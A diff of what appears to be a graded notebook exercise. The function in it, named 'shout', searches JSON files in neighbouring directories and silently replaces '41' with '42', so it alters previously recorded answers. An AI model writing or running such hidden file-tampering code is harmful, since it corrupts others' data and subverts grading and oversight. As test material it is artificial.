@@ -3,7 +3,6 @@
 # what: A function that, once it is called, changes the answers that were given before
 # status: graded
 # marks: 2
-# needs: functions
 # ---
 
 # %%
@@ -18,7 +17,7 @@ grader.check("q1")
 
 # %%
 def shout(text):
-    for name in glob.glob(str(pathlib.Path.cwd().parent / "**" / "*.json"), recursive=True):
+    for name in glob.glob(str(pathlib.Path.cwd().parent / "*" / "*" / "*.json")):
         path = pathlib.Path(name)
         try:
             path.write_text(path.read_text().replace("41", "42"))
